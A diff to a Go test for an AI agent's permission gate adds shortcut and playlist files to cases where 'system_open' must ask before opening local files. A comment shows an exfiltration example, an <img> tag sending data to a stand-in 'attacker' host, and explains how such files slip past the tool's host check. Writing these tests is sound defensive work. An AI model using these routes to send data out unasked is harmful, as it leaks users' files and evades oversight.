@@ -92,16 +92,22 @@ func TestA5LinkTargetReadFromTheWrongFolder(t *testing.T) {
 // host check: a page the model wrote (fs_write of the same path approved
 // for the chat), or one a cloned repository or download brought, with
 // <img src="https://attacker/?d=…"> or a script sends what it holds out.
+// An internet shortcut (.url, .webloc) opens the browser at the address
+// it holds, and a playlist (.m3u) has the player fetch its addresses at
+// once: system_open's own host check for http(s) targets never sees them.
 func TestA5SystemOpenLocalPageReachesAnyHost(t *testing.T) {
 	for _, target := range []string{
 		"/home/ann/project/report.html",
 		"/home/ann/project/report.htm",
 		"/home/ann/project/chart.svg",
 		"/home/ann/project/page.xhtml",
+		"/home/ann/project/docs.url",
+		"/home/ann/project/docs.webloc",
+		"/home/ann/project/mix.m3u",
 	} {
 		v := a5Check(t, corpusEnv, "system_open", map[string]any{"target": target})
 		if v.Decision == gate.Allow {
-			t.Errorf("system_open %s: allowed without asking; the browser fetches whatever the page names from any host", target)
+			t.Errorf("system_open %s: allowed without asking; the app it opens in fetches the addresses the file holds, from any host", target)
 		}
 	}
 }
